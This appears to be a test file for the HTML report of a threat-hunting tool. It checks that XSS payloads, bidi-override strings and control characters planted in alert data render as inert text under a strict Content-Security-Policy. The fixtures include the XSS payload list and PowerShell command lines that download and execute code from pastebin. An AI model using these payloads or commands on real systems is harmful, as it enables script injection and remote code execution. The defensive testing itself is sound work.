import assert from 'node:assert/strict';
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import type { Readable, Writable } from 'node:stream';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { CLIENT_SCRIPT, PAGE_SIZE } from '../../src/report/html/client.js';
import { embedAlerts } from '../../src/report/html/data.js';
import {
  INVISIBLE_SOURCE,
  escapeHtml,
  htmlText,
  scriptJson,
  visibleText,
} from '../../src/report/html/escape.js';
import { REPORT_CSS } from '../../src/report/html/style.js';
import { renderHtmlReport, type HtmlReportInput } from '../../src/report/html.js';
import type { RunSummary } from '../../src/report/summary.js';
import type { Scalar } from '../../src/table/types.js';
import { repoRoot } from '../helpers.js';
import { cli, jsonLines } from '../cli/run-cli.js';

/** Strings an attacker can plant in a command line, URL, host or file name. */
const HOSTILE: readonly string[] = [
  '<script>document.title="pwned"</script>',
  '</script><script>document.title="pwned"</script>',
  '</SCRIPT ><img src=x onerror="document.title=\'pwned\'">',
  '"><svg onload=document.title=1>',
  "' onmouseover='document.title=1' x='",
  '<!-- <script>',
  ']]><![CDATA[',
  '&lt;&amp;&#x3c;&#60',
  '`${document.title="pwned"}`',
  '{{constructor.constructor("document.title=1")()}}',
  'javascript:document.title=1',
  'line\u2028separator\u2029paragraph',
  'nul\u0000byte',
  'esc\u001b[31mred\u001b[0m\u0007',
  'invoice\u202etxt.exe',
  'a\u2066isolate\u2069b\u202dforced\u202c',
  'zero\u200bwidth\ufeffbom\u00adsoft',
  'lone \ud800 high and \udc00 low',
  'tag \u{e0041}\u{e0042} characters',
  'emoji \u{1f600} and 中文 and עברית stay as they are',
  'c1 \u0085 \u009b controls',
  'cr\rlf\ncrlf\r\nend',
  'x'.repeat(100_000) + '<script>document.title="long"</script>',
];

/** Alert 0 carries every hostile string in a column of its own, the rest are plain. */
function hostileAlerts(): Record<string, Scalar>[] {
  const a: Record<string, Scalar> = {
    RuleId: 'webc2-t1102',
    Severity: 'high',
    Timestamp: 17_955_000_000_000_000n,
    DeviceName: '<img src=x onerror=alert(1)>.contoso.local',
    AccountName: 'm.ortiz"\'&',
    FileName: 'inv\u202eexe.pdf',
    ProcessCommandLine: HOSTILE.slice(0, 12).join(' | '),
    InitiatingProcessFileName: '</script>',
    RemoteUrl: 'https://evil.example/</script>?q="\'&<x>',
    Service: '<b>Pastebin</b>',
    SuspiciousProcess: true,
    Evidence: [
      { Kind: 'network', Time: '2026-11-20T11:42:10.5880000Z', Detail: '</script><img src=x>' },
      { Kind: '<i>k</i>', Detail: 'ok', '<key onclick=x>': '\u202e' },
    ],
    '<img src=x onerror=alert(2)>': 'column name from data',
  };
  HOSTILE.forEach((s, k) => (a[`H${k}`] = s));
  const plain = (i: number): Record<string, Scalar> => ({
    RuleId: 'seed-t1102',
    Severity: i % 2 ? 'medium' : 'low',
    Timestamp: 17_955_000_000_000_000n - BigInt(i) * 10_000_000n,
    DeviceName: `ws-${i}.contoso.local`,
    AccountName: 'a.nakamura',
    FileName: 'powershell.exe',
    ProcessCommandLine: `powershell.exe -c "iwr https://pastebin.com/raw/${i}"`,
    InitiatingProcessFileName: 'WINWORD.EXE',
    RemoteUrl: 'pastebin.com',
    Service: 'Pastebin',
    SuspiciousProcess: false,
  });
  return [a, plain(1), plain(2), plain(3)];
}

/** Alerts with known spreads of rule, severity, host, process, parent and service. */
function controlAlerts(n: number): Record<string, Scalar>[] {
  const alerts: Record<string, Scalar>[] = [];
  for (let i = 0; i < n; i++) {
    const seed = i % 2 === 0;
    alerts.push({
      RuleId: seed ? 'seed-t1102' : 'webc2-t1102',
      Severity: ['high', 'medium', 'low', 'informational'][i % 4]!,
      Timestamp: 17_955_000_000_000_000n + BigInt(i) * 10_000_000n,
      DeviceName: `ws-${i % 7}.contoso.local`,
      AccountName: `user${i % 5}`,
      FileName: ['powershell.exe', 'rundll32.exe', 'curl.exe'][i % 3]!,
      ProcessCommandLine: `tool-${i} --get https://pastebin.com/raw/k${i}`,
      InitiatingProcessFileName: i % 10 === 0 ? 'WINWORD.EXE' : 'explorer.exe',
      RemoteUrl: seed && i % 4 === 2 ? 'api.telegram.org' : 'pastebin.com',
      // The seed rule names no service: its pastebin.com alerts pair with Pastebin's.
      ...(seed ? {} : { Service: 'Pastebin' }),
    });
  }
  return alerts;
}

function summaryFor(alerts: readonly Record<string, Scalar>[], hostile = false): RunSummary {
  const name = hostile ? 'logs/<img src=x onerror=alert(3)>\u202e.json' : 'logs/a.json';
  return {
    command: 'hunt',
    files: [
      { name, format: 'json', read: 10, rejected: 1 },
      { name: 'b.bin', format: 'unknown', read: 0, rejected: 0, skipped: hostile ? '</td>' : 'x' },
    ],
    read: 10,
    kept: 8,
    notUsed: new Map([[hostile ? '<u>event 7</u>' : 'event 7', 1]]),
    rejected: 1,
    diagnostics: [
      {
        code: 'JSON0001',
        severity: 'warning',
        file: name,
        line: 3,
        message: hostile ? 'Broken line: </script><script>alert(4)</script>' : 'Broken line.',
        hint: hostile ? '"><img src=x>' : 'Fix it.',
      },
    ],
    diagnosticCounts: new Map([['JSON0001', 1]]),
    anchor: {
      now: 17_955_000_000_000_000n,
      source: hostile ? 'latest <event>\u0000' : 'latest event in the data',
    },
    rules: [
      {
        id: 'webc2-t1102',
        bySeverity: { high: 1 },
        total: 1,
        ...(hostile ? { failed: '<marquee>' } : {}),
      },
      {
        id: 'seed-t1102',
        bySeverity: { low: 2, medium: 1 },
        total: 3,
        suppressed: { 'release bot': 2 },
      },
    ],
    rows: new Map([['DeviceNetworkEvents', 8]]),
    elapsedMs: 1234,
  };
}

const COLUMNS = ['RuleId', 'Severity', 'Timestamp', 'DeviceName', 'AccountName', 'FileName'];
const GENERATED = new Date('2026-12-01T10:00:00Z');

function report(alerts: Record<string, Scalar>[], hostile = true): string {
  const input: HtmlReportInput = {
    summary: summaryFor(alerts, hostile),
    alerts,
    columns: COLUMNS,
    generatedAt: GENERATED,
  };
  return renderHtmlReport(input);
}

/** The text of the one JSON data block (it must end at the first `</script`). */
function dataBlock(html: string): string {
  const open = '<script type="application/json" id="webc2-data">';
  const start = html.indexOf(open);
  assert.ok(start >= 0, 'no data block');
  const from = start + open.length;
  return html.slice(from, html.toLowerCase().indexOf('</script', from));
}

function inlineBlock(html: string, tag: 'script' | 'style'): string {
  const m = new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`).exec(html);
  assert.ok(m, `no inline ${tag}`);
  return m[1]!;
}

const count = (hay: string, needle: RegExp): number => (hay.match(needle) ?? []).length;

describe('HTML escaping', () => {
  it('escapes the five HTML characters for text and attributes', () => {
    const cases: [string, string][] = [
      ['', ''],
      ['plain', 'plain'],
      ['<script>', '&lt;script&gt;'],
      ['"quoted" \'single\'', '&quot;quoted&quot; &#39;single&#39;'],
      ['&amp;', '&amp;amp;'],
      ['`${x}`', '`${x}`'],
    ];
    for (const [input, want] of cases) assert.equal(escapeHtml(input), want, input);
  });

  it('shows invisible and reordering characters as marks with their names', () => {
    assert.equal(
      htmlText('a\u202eb'),
      'a<span class="cc" title="U+202E RIGHT-TO-LEFT OVERRIDE">\\u202e</span>b',
    );
    const cases: [string, string][] = [
      ['nul\u0000', 'nul\\x00'],
      ['\u001b[0m', '\\x1b[0m'],
      ['tab\tkept', 'tab\tkept'],
      ['\u2028\u2029', '\\u2028\\u2029'],
      ['\u{e0041}', '\\u{e0041}'],
      ['\ud800', '\\ud800'],
      ['\u{1f600}', '\u{1f600}'],
      ['\u0085', '\\x85'],
      ['\u200b\ufeff', '\\u200b\\ufeff'],
    ];
    for (const [input, want] of cases)
      assert.equal(visibleText(input), want, JSON.stringify(input));
  });

  it('leaves no raw markup, control or bidi character in HTML text', () => {
    const invisible = new RegExp(INVISIBLE_SOURCE, 'u');
    for (const s of HOSTILE) {
      const out = htmlText(s);
      assert.ok(!/<(?!span class="cc" title="[^"<>]*">|\/span>)/.test(out), JSON.stringify(out));
      assert.ok(!invisible.test(out), JSON.stringify(s));
    }
  });

  it('embeds JSON that cannot close its script element and parses back exactly', () => {
    for (const s of HOSTILE) {
      const out = scriptJson({ s, list: [s], [s]: s });
      assert.ok(!/[<>&\u2028\u2029\u202e\u0085]/.test(out), JSON.stringify(out.slice(0, 80)));
      assert.deepEqual(JSON.parse(out), { s, list: [s], [s]: s });
    }
  });
});

describe('the embedded alert data', () => {
  it('lays alerts out as column-ordered arrays with kinds', () => {
    const data = embedAlerts(
      [
        { RuleId: 'r', Timestamp: 17_955_000_000_000_000n, N: 3, B: true, D: { a: [1] } },
        { RuleId: 'r', Extra: 'x' },
      ],
      ['RuleId', 'Severity', 'Timestamp'],
    );
    assert.deepEqual(data.columns, [
      { name: 'RuleId', kind: 'string' },
      { name: 'Timestamp', kind: 'datetime' },
      { name: 'N', kind: 'number' },
      { name: 'B', kind: 'bool' },
      { name: 'D', kind: 'dynamic' },
      { name: 'Extra', kind: 'string' },
    ]);
    assert.deepEqual(data.rows, [
      ['r', '2026-11-24T06:00:00.0000000Z', 3, true, { a: [1] }, null],
      ['r', null, null, null, null, 'x'],
    ]);
  });

  it('keeps the listed columns when there are no alerts', () => {
    assert.deepEqual(embedAlerts([], ['RuleId', 'Severity']), {
      columns: [
        { name: 'RuleId', kind: 'string' },
        { name: 'Severity', kind: 'string' },
      ],
      rows: [],
    });
  });
});

describe('the HTML report', () => {
  const alerts = hostileAlerts();
  const html = report(alerts);

  it('has exactly its own two script elements and no element from the data', () => {
    assert.equal(count(html, /<script/gi), 2);
    assert.equal(count(html, /<\/script/gi), 2);
    for (const tag of ['<img', '<svg', '<marquee', '<b>', '<i>', '<u>', '<!--', '<key'])
      assert.equal(html.toLowerCase().indexOf(tag), -1, tag);
  });

  it('carries the alerts once, as JSON that round-trips exactly', () => {
    const parsed = JSON.parse(dataBlock(html)) as ReturnType<typeof embedAlerts>;
    assert.deepEqual(parsed, embedAlerts(alerts, COLUMNS));
    const names = parsed.columns.map((c) => c.name);
    HOSTILE.forEach((s, k) => assert.equal(parsed.rows[0]![names.indexOf(`H${k}`)], s, `H${k}`));
    assert.equal(count(html, /x{100000}/g), 1, 'the long string is embedded once');
  });

  it('contains no raw control, bidi or lone surrogate character anywhere', () => {
    const found = [...html.matchAll(new RegExp(INVISIBLE_SOURCE, 'gu'))]
      .map((m) => m[0])
      .filter((c) => c !== '\n');
    assert.deepEqual(found, []);
  });

  it('allows its own script and stylesheet by hash and nothing else', () => {
    const m = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
    assert.ok(m, 'no CSP meta');
    const csp = m[1]!.replace(/&#39;/g, "'");
    const hash = (s: string): string => createHash('sha256').update(s).digest('base64');
    assert.equal(
      csp,
      `default-src 'none'; script-src 'sha256-${hash(inlineBlock(html, 'script'))}'; ` +
        `style-src 'sha256-${hash(inlineBlock(html, 'style'))}'; base-uri 'none'; form-action 'none'`,
    );
    assert.ok(html.indexOf(m[0]) < html.indexOf('<style>'), 'the policy precedes the style');
    assert.ok(!/\b(?:src|href)=["']?(?:https?:|\/\/)/i.test(html), 'nothing is fetched');
  });

  it('ships a script that parses and never writes markup', () => {
    assert.doesNotThrow(() => new Function(CLIENT_SCRIPT));
    assert.ok(!/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(/.test(CLIENT_SCRIPT));
    assert.ok(!/<\/script|<!--/i.test(CLIENT_SCRIPT + REPORT_CSS));
  });

  it('renders the run header from the summary, escaped', () => {
    assert.match(html, /<title>webc2 hunt · 4 alerts<\/title>/);
    assert.match(html, /10 read<\/div>/);
    assert.match(html, /&lt;img src=x onerror=alert\(3\)&gt;<span class="cc"/);
    assert.match(html, /failed: &lt;marquee&gt;/);
    assert.match(html, /Broken line: &lt;\/script&gt;&lt;script&gt;alert\(4\)&lt;\/script&gt;/);
    assert.match(html, /latest &lt;event&gt;<span class="cc" title="U\+0000 NULL">\\x00<\/span>/);
    assert.match(html, /2 set aside \(allowlist: release bot 2\)/);
  });

  it('says so plainly when there are no alerts', () => {
    const empty = renderHtmlReport({
      summary: summaryFor([], false),
      alerts: [],
      columns: COLUMNS,
      generatedAt: GENERATED,
    });
    assert.match(empty, /No alerts after 2 rules ran over 8 records\./);
    assert.ok(!empty.includes('id="alerts"'), 'no alerts table');
    assert.deepEqual(JSON.parse(dataBlock(empty)), embedAlerts([], COLUMNS));
    assert.match(empty, /Content-Security-Policy/);
  });

  it('is what webc2 hunt --format html writes', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'webc2-html-'));
    try {
      const out = path.join(dir, 'report.html');
      const examples = path.join(repoRoot, 'examples');
      const run = await cli('hunt', examples, '--format', 'html', '-o', out, '-q');
      const lines = jsonLines((await cli('hunt', examples, '--format', 'jsonl', '-q')).stdout);
      assert.equal(run.stdout, '');
      const written = readFileSync(out, 'utf8');
      assert.match(written, /^<!doctype html>/);
      const data = JSON.parse(dataBlock(written)) as { rows: unknown[] };
      assert.equal(data.rows.length, lines.length);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// ---- end to end in headless Chromium ----

const CHROMIUM = process.env['CHROMIUM'] ?? '/usr/bin/chromium';
const run = promisify(execFile);
const work = mkdtempSync(path.join(tmpdir(), 'webc2-chromium-'));
after(() => rmSync(work, { recursive: true, force: true }));

interface Page {
  dom: string;
  log: string;
}

/** A fresh profile, and nothing that would reach the network. */
const chromiumFlags = (profile: string): string[] => [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  `--user-data-dir=${profile}`,
];

/** Loads a file in a fresh headless profile and returns the DOM after its script ran. */
async function load(file: string, hash = ''): Promise<Page> {
  const profile = mkdtempSync(path.join(work, 'profile-'));
  try {
    const { stdout, stderr } = await run(
      CHROMIUM,
      [
        ...chromiumFlags(profile),
        '--enable-logging=stderr',
        '--v=0',
        '--dump-dom',
        pathToFileURL(file).href + hash,
      ],
      { maxBuffer: 512 * 1024 * 1024, timeout: 120_000 },
    );
    return { dom: stdout, log: stderr };
  } finally {
    rmSync(profile, { recursive: true, force: true });
  }
}

/** Tag names and attributes of a serialised DOM (script and style bodies set aside). */
function elements(dom: string): { tag: string; attrs: string }[] {
  const body = dom.replace(/<(script|style)\b([^>]*)>[\s\S]*?<\/\1>/gi, '<$1$2></$1>');
  return [...body.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    (m) => ({ tag: m[1]!.toLowerCase(), attrs: m[2] ?? '' }),
  );
}

/** The page's text: tags dropped, the serialiser's entities decoded. */
function textOf(dom: string): string {
  return dom
    .replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1>/gi, '')
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&nbsp;/g, '\u00a0')
    .replace(/&amp;/g, '&');
}

/**
 * Drives one headless Chromium over the DevTools protocol on a pipe (fds 3 and 4, messages
 * ending in NUL), to click and type in a report. Evaluation from DevTools is not bound by the
 * page's Content-Security-Policy, so the page keeps its policy while the test reads the DOM.
 */
class Browser {
  private buffer = '';
  private nextId = 1;
  private readonly waiting = new Map<number, (m: { result?: unknown; error?: unknown }) => void>();
  private session = '';

  private constructor(
    private readonly child: ChildProcess,
    private readonly profile: string,
  ) {
    const from = child.stdio[4] as Readable;
    from.on('data', (chunk: Buffer) => {
      this.buffer += chunk.toString('utf8');
      for (let end; (end = this.buffer.indexOf('\0')) >= 0;) {
        const msg = JSON.parse(this.buffer.slice(0, end)) as {
          id?: number;
          result?: unknown;
          error?: unknown;
        };
        this.buffer = this.buffer.slice(end + 1);
        if (msg.id !== undefined) this.waiting.get(msg.id)?.(msg);
      }
    });
  }

  static async launch(): Promise<Browser> {
    const profile = mkdtempSync(path.join(work, 'profile-'));
    const child = spawn(CHROMIUM, [...chromiumFlags(profile), '--remote-debugging-pipe'], {
      stdio: ['ignore', 'ignore', 'ignore', 'pipe', 'pipe'],
    });
    const browser = new Browser(child, profile);
    const { targetInfos } = (await browser.send('Target.getTargets')) as {
      targetInfos: { type: string; targetId: string }[];
    };
    const page = targetInfos.find((t) => t.type === 'page');
    assert.ok(page, 'Chromium opened no page');
    const attached = (await browser.send('Target.attachToTarget', {
      targetId: page.targetId,
      flatten: true,
    })) as { sessionId: string };
    browser.session = attached.sessionId;
    return browser;
  }

  private send(method: string, params: object = {}): Promise<unknown> {
    const id = this.nextId++;
    const message = { id, method, params, ...(this.session ? { sessionId: this.session } : {}) };
    return new Promise((resolve, reject) => {
      this.waiting.set(id, (m) => {
        this.waiting.delete(id);
        if (m.error) reject(new Error(`${method}: ${JSON.stringify(m.error)}`));
        else resolve(m.result);
      });
      (this.child.stdio[3] as Writable).write(JSON.stringify(message) + '\0');
    });
  }

  /** Evaluates an expression in the page (promises awaited) and returns its JSON value. */
  async eval<T>(expression: string): Promise<T> {
    const r = (await this.send('Runtime.evaluate', {
      expression,
      returnByValue: true,
      awaitPromise: true,
    })) as { result: { value: T }; exceptionDetails?: { exception?: { description?: string } } };
    if (r.exceptionDetails)
      throw new Error(r.exceptionDetails.exception?.description ?? expression);
    return r.result.value;
  }

  /** Opens a report and waits until its script has rendered. */
  async open(file: string): Promise<void> {
    await this.send('Page.navigate', { url: pathToFileURL(file).href });
    for (let tries = 0; tries < 200; tries++) {
      const rendered = await this.eval<string | null>(
        "location.protocol === 'file:' && document.readyState === 'complete' " +
          '? document.documentElement.dataset.rendered ?? null : null',
      );
      if (rendered !== null) return;
      await new Promise((r) => setTimeout(r, 50));
    }
    assert.fail(`${file} never rendered`);
  }

  async close(): Promise<void> {
    const exited = new Promise((r) => this.child.once('exit', r));
    await this.send('Browser.close').catch(() => undefined);
    const timer = setTimeout(() => this.child.kill(), 5000);
    await exited;
    clearTimeout(timer);
    rmSync(this.profile, { recursive: true, force: true });
  }
}

const ALLOWED_TAGS = new Set(
  (
    'html head meta title style body header h1 h2 h3 h4 span div main section table caption ' +
    'thead tbody tr th td details summary p input select option button datalist dl dt dd pre ' +
    'ol li a strong label noscript script br'
  ).split(' '),
);

describe('the report in headless Chromium', () => {
  if (!existsSync(CHROMIUM)) {
    it('needs Chromium', () =>
      assert.fail(
        `${CHROMIUM} is missing, so the HTML report cannot be checked in a browser. ` +
          `Install it (apt-get install -y chromium) or point CHROMIUM at a Chromium binary.`,
      ));
    return;
  }

  it('renders hostile strings as text, runs only its own script, and obeys its policy', async () => {
    const alerts = hostileAlerts();
    const file = path.join(work, 'hostile.html');
    writeFileSync(file, report(alerts));
    const { dom, log } = await load(file, '#alert-0');

    assert.match(dom, new RegExp(`data-alerts="${alerts.length}"`));
    assert.match(dom, new RegExp(`data-rendered="${alerts.length}"`), 'the page script ran');
    assert.match(dom, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
    assert.match(dom, /<title>webc2 hunt · 4 alerts<\/title>/, 'nothing rewrote the title');
    assert.ok(!/Content Security Policy|Uncaught/i.test(log), log);

    const els = elements(dom);
    assert.deepEqual(
      [...new Set(els.map((e) => e.tag))].filter((t) => !ALLOWED_TAGS.has(t)),
      [],
    );
    assert.equal(els.filter((e) => e.tag === 'script').length, 2);
    const attributeNames = els.flatMap((e) =>
      [...e.attrs.matchAll(/\s([^\s=>/]+)(?:="[^"]*")?/g)].map((m) => m[1]!.toLowerCase()),
    );
    assert.deepEqual(
      attributeNames.filter((n) => n.startsWith('on')),
      [],
      'no event-handler attribute',
    );
    for (const e of els.filter((x) => x.tag === 'a'))
      assert.match(e.attrs, /href="#alert-\d+"/, 'links only point within the page');

    // Alert 0's details are open (#alert-0) and show every column in full.
    const text = textOf(dom);
    HOSTILE.forEach((s, k) => {
      const shown = visibleText(s).replace(/\\x0a/g, '\\x0a\n');
      assert.ok(
        text.includes(shown),
        `H${k} is not shown as text: ${JSON.stringify(s.slice(0, 60))}`,
      );
    });
    for (const s of ['inv\\u202eexe.pdf', 'column name from data', '</script><img src=x>'])
      assert.ok(text.includes(s), s);
    assert.ok(text.includes('logs/<img src=x onerror=alert(3)>\\u202e.json'), 'file name');
  });

  it('opens a report with no alerts', async () => {
    const file = path.join(work, 'empty.html');
    writeFileSync(
      file,
      renderHtmlReport({
        summary: summaryFor([], false),
        alerts: [],
        columns: COLUMNS,
        generatedAt: GENERATED,
      }),
    );
    const { dom, log } = await load(file);
    assert.match(dom, /data-alerts="0"/);
    assert.match(dom, /No alerts after 2 rules ran/);
    assert.ok(!/Content Security Policy|Uncaught/i.test(log), log);
  });

  it('stays responsive with 20,000 alerts: data embedded once, one page of rows rendered', async () => {
    const alerts: Record<string, Scalar>[] = [];
    for (let i = 0; i < 20_000; i++) {
      alerts.push({
        RuleId: i % 3 ? 'webc2-t1102' : 'seed-t1102',
        Severity: ['high', 'medium', 'low', 'informational'][i % 4]!,
        Timestamp: 17_955_000_000_000_000n + BigInt(i) * 10_000_000n,
        DeviceName: `ws-${i % 700}.contoso.local`,
        AccountName: `user${i % 90}`,
        FileName: ['powershell.exe', 'rundll32.exe', 'curl.exe', 'mshta.exe'][i % 4]!,
        ProcessCommandLine: `powershell.exe -nop -w hidden -c "iex (iwr https://pastebin.com/raw/k${i})"`,
        InitiatingProcessFileName: 'WINWORD.EXE',
        RemoteUrl: ['pastebin.com', 'api.telegram.org', 'raw.githubusercontent.com'][i % 3]!,
        RemoteIP: `104.20.${i % 256}.${(i >> 8) % 256}`,
        RemotePort: 443,
        SuspiciousProcess: i % 5 === 0,
        Service: ['Pastebin', 'Telegram', 'GitHub'][i % 3]!,
        Evidence: [{ Kind: 'network', Time: '2026-11-24T16:00:00Z', Detail: `conn ${i}` }],
      });
    }
    const html = report(alerts, false);
    const json = dataBlock(html);
    assert.ok(html.length < json.length + 200_000, 'nothing but the JSON grows with the alerts');
    assert.equal(count(html, /pastebin\.com\/raw\/k12345\)/g), 1);
    const file = path.join(work, 'large.html');
    writeFileSync(file, html);
    const { dom, log } = await load(file);
    assert.match(dom, /data-alerts="20000"/);
    assert.match(dom, new RegExp(`data-rendered="${PAGE_SIZE}"`));
    assert.equal(count(dom, /<tr class="row /g), PAGE_SIZE);
    const ms = Number(/data-render-ms="(\d+)"/.exec(dom)?.[1]);
    assert.ok(ms < 5000, `first render took ${ms} ms`);
    assert.ok(!/Content Security Policy|Uncaught/i.test(log), log);
  });

  describe('its controls', () => {
    const n = 1200;
    const alerts = controlAlerts(n);
    const file = path.join(work, 'controls.html');
    let browser: Browser;
    before(async () => {
      writeFileSync(file, report(alerts, false));
      browser = await Browser.launch();
      await browser.open(file);
    });
    after(() => browser.close());

    const shownIds = (): Promise<number[]> =>
      browser.eval("[...document.querySelectorAll('tr.row')].map((tr) => Number(tr.dataset.i))");
    const countText = (): Promise<string> =>
      browser.eval("document.getElementById('count').textContent");
    const settle = 'new Promise((r) => setTimeout(r, 150))';
    const type = (id: string, value: string): Promise<void> =>
      browser.eval(
        `(async () => { const i = document.getElementById(${JSON.stringify(id)}); ` +
          `i.value = ${JSON.stringify(value)}; i.dispatchEvent(new Event('input')); await ${settle}; })()`,
      );
    const click = (selector: string): Promise<void> =>
      browser.eval(`document.querySelector(${JSON.stringify(selector)}).click()`);
    const clear = (): Promise<void> => click('#f-clear');
    const where = (keep: (a: Record<string, Scalar>, i: number) => boolean): number[] =>
      alerts.map((a, i) => (keep(a, i) ? i : -1)).filter((i) => i >= 0);
    const matching = (k: number): string =>
      `${k.toLocaleString('en-US')} of 1,200 alerts match` +
      (k > PAGE_SIZE ? ` · first ${PAGE_SIZE} shown` : '');
    // A failed test must not leave its filters on for the next one.
    beforeEach(() => clear());

    it('renders one page, highest severity first, newest first within it', async () => {
      const ids = await shownIds();
      assert.equal(ids.length, PAGE_SIZE);
      const high = where((a) => a['Severity'] === 'high').reverse();
      assert.deepEqual(ids, high.slice(0, PAGE_SIZE));
      assert.equal(await countText(), `1,200 alerts · first ${PAGE_SIZE} shown`);
    });

    it('filters on free text across every field, host, and process or parent', async () => {
      await type('f-text', 'RAW/K117');
      assert.deepEqual(
        (await shownIds()).sort((a, b) => a - b),
        where((a) => String(a['ProcessCommandLine']).includes('raw/k117')),
      );
      await type('f-text', '');
      await type('f-host', 'ws-3.');
      const host = where((_, i) => i % 7 === 3);
      assert.equal(await countText(), matching(host.length));
      await type('f-proc', 'winword');
      const both = where((_, i) => i % 7 === 3 && i % 10 === 0);
      assert.deepEqual(
        (await shownIds()).sort((a, b) => a - b),
        both,
      );
      await clear();
      assert.equal((await shownIds()).length, PAGE_SIZE);
    });

    it('filters by rule and by one or more severities', async () => {
      await browser.eval(
        "(() => { const s = document.getElementById('f-rule'); s.value = 'seed-t1102'; " +
          "s.dispatchEvent(new Event('change')); })()",
      );
      assert.equal(await countText(), matching(n / 2));
      await clear();
      const chip = (sev: string): string =>
        `[...document.querySelectorAll('#f-sev button')].find((b) => b.textContent.startsWith('${sev}')).click()`;
      await browser.eval(chip('high'));
      assert.equal(await countText(), matching(300));
      await browser.eval(chip('low'));
      assert.equal(await countText(), matching(600));
      const classes = await browser.eval<string[]>(
        "[...document.querySelectorAll('tr.row')].map((tr) => tr.className)",
      );
      assert.ok(classes.every((c) => /sev-(high|low)/.test(c)));
      await clear();
    });

    it('sorts by a column, then the other way', async () => {
      await click('#alerts thead th:nth-child(4) button');
      const hostOf = (): Promise<string> =>
        browser.eval("document.querySelector('tr.row td:nth-child(4)').textContent");
      assert.equal(
        await browser.eval(
          "document.querySelector('#alerts thead th:nth-child(4)').getAttribute('aria-sort')",
        ),
        'ascending',
      );
      assert.equal(await hostOf(), 'ws-0.contoso.local');
      await click('#alerts thead th:nth-child(4) button');
      assert.equal(await hostOf(), 'ws-6.contoso.local');
    });

    it('shows only the alerts of one process and service pair', async () => {
      const first = (await shownIds())[0]!;
      await click('tr.row button.pair');
      const a = alerts[first]!;
      const service = (x: Record<string, Scalar>): string =>
        String(x['Service'] ?? (x['RemoteUrl'] === 'pastebin.com' ? 'Pastebin' : x['RemoteUrl']));
      const same = where((x) => x['FileName'] === a['FileName'] && service(x) === service(a));
      assert.equal(await countText(), matching(same.length));
      assert.equal(await browser.eval("document.getElementById('f-pair').hidden"), false);
      await clear();
    });

    it('adds pages on request', async () => {
      await click('#more');
      assert.equal((await shownIds()).length, 2 * PAGE_SIZE);
      await click('#all');
      assert.equal((await shownIds()).length, n);
      await clear();
    });

    it('opens and closes the details of a row, and follows #alert-N', async () => {
      const first = (await shownIds())[0]!;
      await click('tr.row');
      const detail = await browser.eval<string>("document.querySelector('tr.detail').textContent");
      assert.ok(detail.includes(String(alerts[first]!['ProcessCommandLine'])));
      assert.ok(detail.includes('InitiatingProcessFileName'));
      await click('tr.row');
      assert.equal(await browser.eval("document.querySelectorAll('tr.detail').length"), 0);
      await browser.eval(`(async () => { location.hash = '#alert-7'; await ${settle}; })()`);
      assert.equal(
        await browser.eval("document.getElementById('alert-7').getAttribute('aria-expanded')"),
        'true',
      );
    });

    it('keeps hostile strings inert and finds them by their visible form', async () => {
      const hostile = path.join(work, 'hostile-controls.html');
      writeFileSync(hostile, report(hostileAlerts()));
      await browser.open(hostile);
      assert.equal(await browser.eval('document.title'), 'webc2 hunt · 4 alerts');
      assert.equal(await browser.eval('document.scripts.length'), 2);
      assert.equal(
        await browser.eval(
          "document.querySelectorAll('img, svg, iframe, object, embed, marquee, b, i, u, key').length",
        ),
        0,
      );
      await type('f-text', '\\u202e');
      assert.equal(await countText(), '1 of 4 alerts match');
      assert.equal(
        await browser.eval("document.querySelector('tr.row td:nth-child(6) .cc').textContent"),
        '\\u202e',
      );
    });
  });
});
